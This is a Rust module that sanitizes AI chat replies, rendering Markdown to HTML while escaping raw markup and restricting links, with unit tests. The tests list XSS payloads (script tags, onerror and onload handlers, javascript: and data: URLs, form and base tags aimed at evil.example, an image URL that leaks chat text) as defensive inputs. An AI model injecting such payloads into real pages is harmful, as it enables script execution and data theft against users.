//! Model output to safe HTML: Markdown rendered with pulldown-cmark, whose
//! writer escapes every text and emits only the tags Markdown itself makes
//! (paragraphs, emphasis, code, lists, tables, headings…). Markup written in
//! a reply (raw HTML) is shown as text, never parsed, so a reply can never
//! inject markup that runs (scripts, event handlers, iframes, styles) nor make
//! the browser fetch anything. Links are written here: only absolute
//! `http(s)`/`mailto` URLs, never to the app's widget view (`embed=`), opening
//! a new tab with no referrer (the widget's frame never navigates: `embed.js`
//! replaces a frame that does); any other link keeps only its text. An image
//! becomes a link to it, its alt text the link's text (a reply's
//! `![](https://x/?q=<the chat>)` would otherwise send the chat away as it
//! streams).

use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};

/// Renders `markdown` to safe HTML.
pub fn to_safe_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    // For each link or image open: whether its <a> was written.
    let mut open: Vec<bool> = Vec::new();
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        // Markup in the text is text.
        Event::Html(markup) | Event::InlineHtml(markup) => Event::Text(markup),
        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
            let href = safe_href(&dest_url);
            open.push(href.is_some());
            match href {
                Some(href) => Event::InlineHtml(CowStr::from(format!(
                    r#"<a href="{}" target="_blank" rel="noopener noreferrer nofollow">"#,
                    escape_attribute(href)
                ))),
                None => Event::Text(CowStr::Borrowed("")),
            }
        }
        Event::End(TagEnd::Link | TagEnd::Image) => match open.pop() {
            Some(true) => Event::InlineHtml(CowStr::Borrowed("</a>")),
            _ => Event::Text(CowStr::Borrowed("")),
        },
        other => other,
    });
    html::push_html(&mut out, events);
    out
}

/// `url` if a reply may link to it: absolute `http`, `https` or `mailto`,
/// with no whitespace or control characters, and not the widget view.
fn safe_href(url: &str) -> Option<&str> {
    let lower = url.to_ascii_lowercase();
    let scheme_ok = ["http://", "https://", "mailto:"].iter().any(|s| lower.starts_with(s));
    let clean = !url.chars().any(|c| c.is_whitespace() || c.is_control());
    (scheme_ok && clean && !lower.contains("embed=")).then_some(url)
}

/// `s` escaped for a double-quoted attribute value.
fn escape_attribute(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::to_safe_html;

    /// The real tags of `html` (text is escaped, so every `<` opens one):
    /// each tag's name and attribute names.
    fn tags(html: &str) -> Vec<(String, Vec<String>)> {
        html.split('<')
            .skip(1)
            .map(|t| {
                let inner = t.split('>').next().unwrap_or_default().trim_end_matches('/');
                let mut words = inner.split_whitespace();
                let name = words.next().unwrap_or_default().trim_start_matches('/').to_ascii_lowercase();
                let attrs = inner
                    .split('"')
                    .step_by(2)
                    .filter_map(|part| part.rsplit_once('=').map(|(n, _)| n))
                    .map(|n| n.split_whitespace().last().unwrap_or_default().to_ascii_lowercase())
                    .collect();
                (name, attrs)
            })
            .collect()
    }

    /// Only the tags Markdown makes, and only the attributes written here.
    fn assert_only_markdown_tags(html: &str) {
        const TAGS: &[&str] = &[
            "p",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "blockquote",
            "hr",
            "br",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a",
            "input",
        ];
        for (name, attrs) in tags(html) {
            assert!(TAGS.contains(&name.as_str()), "<{name}> in {html:?}");
            let allowed: &[&str] = match name.as_str() {
                "a" => &["href", "target", "rel"],
                "th" | "td" => &["style"],
                "code" => &["class"],
                "ol" => &["start"],
                "input" => &["disabled", "type", "checked"],
                _ => &[],
            };
            for attr in attrs {
                assert!(allowed.contains(&attr.as_str()), "<{name} {attr}=…> in {html:?}");
            }
        }
    }

    #[test]
    fn markdown_renders() {
        let html = to_safe_html("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n\n- [x] done");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<table>"), "{html}");
        assert_only_markdown_tags(&html);
    }

    #[test]
    fn markup_in_a_reply_is_shown_as_text() {
        for evil in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "<iframe src=\"https://example.com\"></iframe>",
            "<a href=\"#\" onclick=\"alert(1)\">x</a>",
            "<svg onload=alert(1)>",
            "<div style=\"position:fixed\">x</div>",
            "<style>body { display: none }</style>",
            "<base href=\"https://evil.example/\">",
            "<form action=\"https://evil.example/\"><input name=q></form>",
            "**<b onmouseover=alert(1)>x</b>**",
            "<!-- <script>alert(1)</script> -->",
            "[x](<javascript:alert(1)>) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>alert(1)</script>)",
        ] {
            let html = to_safe_html(evil);
            assert_only_markdown_tags(&html);
            assert!(
                !html.to_ascii_lowercase().contains("href=\"javascript") && !html.contains("href=\"data"),
                "{evil:?} rendered as {html:?}"
            );
        }
        // Shown, escaped, as the model wrote it.
        assert_eq!(to_safe_html("<script>alert(1)</script>").trim(), "&lt;script&gt;alert(1)&lt;/script&gt;");
        assert!(to_safe_html("a <b>b</b> c").contains("a &lt;b&gt;b&lt;/b&gt; c"));
    }

    #[test]
    fn nothing_remote_is_fetched_images_become_links() {
        let html = to_safe_html(
            "see ![the chat](https://x.example/?q=secret) and <img src=\"https://x.example/a.png\"> \
             <video src=\"https://x.example/v\"></video><audio src=\"https://x.example/a\"></audio> \
             <link rel=stylesheet href=\"https://x.example/s.css\"><object data=\"https://x.example/o\"></object>",
        );
        assert_only_markdown_tags(&html);
        assert!(
            html.contains(r#"<a href="https://x.example/?q=secret" target="_blank" rel="noopener noreferrer nofollow">the chat</a>"#),
            "{html}"
        );
    }

    #[test]
    fn links_cannot_open_the_widget_view_or_be_relative() {
        for evil in
            ["[x](?embed=1&model=https://evil.example/m.gguf)", "[x](/?EMBED=1)", "[x](https://sprig.example/?embed=1)", "[x](../app)"]
        {
            let html = to_safe_html(evil);
            assert!(!html.contains("href"), "{evil:?} rendered as {html:?}");
            assert!(html.contains('x'), "{evil:?} keeps its text: {html:?}");
        }
        assert!(
            to_safe_html("[docs](https://example.com/a?b=1&c=\"2\")").contains(r#"href="https://example.com/a?b=1&amp;c=&quot;2&quot;""#)
        );
        assert!(to_safe_html("<mailto:a@example.com>").contains(r#"href="mailto:a@example.com""#));
        assert!(to_safe_html("<https://example.com/>").contains(r#"href="https://example.com/" target="_blank""#));
    }

    #[test]
    fn code_blocks_keep_their_text_escaped() {
        let html = to_safe_html("```html\n<script>alert(1)</script>\n```");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert_only_markdown_tags(&html);
    }
}
